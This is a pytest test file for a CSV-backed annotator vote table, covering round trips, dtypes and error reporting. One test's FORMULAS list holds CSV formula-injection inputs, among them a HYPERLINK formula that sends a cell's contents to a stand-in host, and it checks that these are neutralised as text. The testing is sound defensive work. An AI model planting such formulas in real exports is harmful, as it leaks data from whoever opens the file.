from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest

from outpool.annotate import REJECT, Vote, VoteTable
from outpool.errors import DataError

HEADER = "pair_id,annotator,answer,confidence,rationale\n"


def sample() -> VoteTable:
    return VoteTable.from_records(
        [
            Vote("p1", "sim-001", 1, 1.0, ""),
            Vote("p1", "ann", -1, 0.5, 'says "sportier", with a comma'),
            Vote("p2", "ann", 0, 0.0, "two\nlines, ünïcode"),
            Vote("p2", "sim-002", REJECT, 0.1, " spaces kept "),
        ]
    )


def assert_same(a: VoteTable, b: VoteTable) -> None:
    for col in ("pair_id", "annotator", "answer", "confidence", "rationale"):
        np.testing.assert_array_equal(getattr(a, col), getattr(b, col), err_msg=col)
        assert getattr(a, col).dtype.kind == getattr(b, col).dtype.kind


def test_csv_round_trip_is_exact(tmp_path: Path) -> None:
    votes = sample()
    path = tmp_path / "sub" / "votes.csv"
    votes.save(path)
    loaded = VoteTable.load(path)
    assert_same(loaded, votes)
    assert loaded.answer.dtype == np.int8 and loaded.confidence.dtype == np.float32
    assert loaded.confidence[3] == np.float32(0.1)
    assert list(loaded.records()) == list(votes.records())
    assert path.read_text(encoding="utf-8").startswith(HEADER)
    assert [p.name for p in path.parent.iterdir()] == ["votes.csv"]  # no temporary left


FORMULAS = ['=HYPERLINK("http://x/?"&A1,"c")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted"]


def test_people_s_text_never_becomes_a_live_formula_and_still_round_trips(
    tmp_path: Path,
) -> None:
    n = len(FORMULAS)
    votes = VoteTable(
        pair_id=np.array([f"p{i}" for i in range(n)]),
        annotator=np.array(FORMULAS[::-1]),
        answer=np.zeros(n, np.int8),
        confidence=np.ones(n, np.float32),
        rationale=np.array(FORMULAS),
    )
    votes.save(tmp_path / "v.csv")
    with open(tmp_path / "v.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))[1:]
    for row in rows:  # what a spreadsheet sees: every people's cell starts as text
        assert row[1].startswith("'") and row[4].startswith("'")
    assert rows[0][2] == "0"  # numbers are left as they are
    assert_same(VoteTable.load(tmp_path / "v.csv"), votes)


def test_random_confidences_round_trip(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    n = 500
    votes = VoteTable(
        pair_id=np.array([f"p{i}" for i in range(n)]),
        annotator=np.full(n, "a"),
        answer=rng.choice([1, -1, 0, REJECT], n),
        confidence=rng.random(n, dtype=np.float32),
        rationale=np.full(n, ""),
    )
    votes.save(tmp_path / "v.csv")
    assert_same(VoteTable.load(tmp_path / "v.csv"), votes)


def test_empty_round_trip_and_concat(tmp_path: Path) -> None:
    VoteTable.empty().save(tmp_path / "e.csv")
    assert len(VoteTable.load(tmp_path / "e.csv")) == 0
    votes = sample()
    both = VoteTable.concat([votes, VoteTable.empty(), votes.take(np.array([2]))])
    assert len(both) == 5
    assert list(both.records()) == [*votes.records(), next(iter(votes.take([2]).records()))]
    assert len(VoteTable.concat([])) == 0


@pytest.mark.parametrize(
    ("body", "line", "field", "message"),
    [
        ("p1,a,1,1.0,\np1,b,3,1.0,\n", 3, "answer", "got '3'"),
        ("p1,a,x,1.0,\n", 2, "answer", "got 'x'"),
        ("p1,a,1,1.5,\n", 2, "confidence", "got '1.5'"),
        ("p1,a,1,nan,\n", 2, "confidence", "got 'nan'"),
        ("p1,a,1,,\n", 2, "confidence", "got ''"),
        ("p1,a,1,high,\n", 2, "confidence", "got 'high'"),
        (",a,1,1.0,\n", 2, "pair_id", "empty"),
        ('p1,a,1,1.0,"two\nlines"\np2,a,1,1.0\n', 4, None, "expected 5 fields, got 4"),
    ],
)
def test_malformed_rows_name_file_line_and_field(
    tmp_path: Path, body: str, line: int, field: str | None, message: str
) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(HEADER + body, encoding="utf-8")
    with pytest.raises(DataError, match=message) as info:
        VoteTable.load(path)
    err = info.value
    assert (err.path, err.line, err.field) == (path, line, field)
    assert str(err).startswith(f"{path}, line {line}")


@pytest.mark.parametrize(
    "text", ["pair,annotator,answer,confidence,rationale\n", "pair_id,annotator,answer\n", ""]
)
def test_wrong_columns(tmp_path: Path, text: str) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(DataError, match="header must be") as info:
        VoteTable.load(path)
    assert info.value.line == 1 and info.value.path == path


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="cannot open") as info:
        VoteTable.load(tmp_path / "nope.csv")
    assert info.value.path == tmp_path / "nope.csv"


def test_constructor_validates() -> None:
    with pytest.raises(DataError, match="answer"):
        VoteTable.from_records([("p", "a", 5, 1.0)])
    with pytest.raises(DataError, match="confidence"):
        VoteTable.from_records([("p", "a", 1, -0.5)])
    with pytest.raises(DataError, match="length"):
        VoteTable(
            np.array(["p"]), np.array(["a", "b"]), np.array([1]), np.array([1.0]), np.array([""])
        )
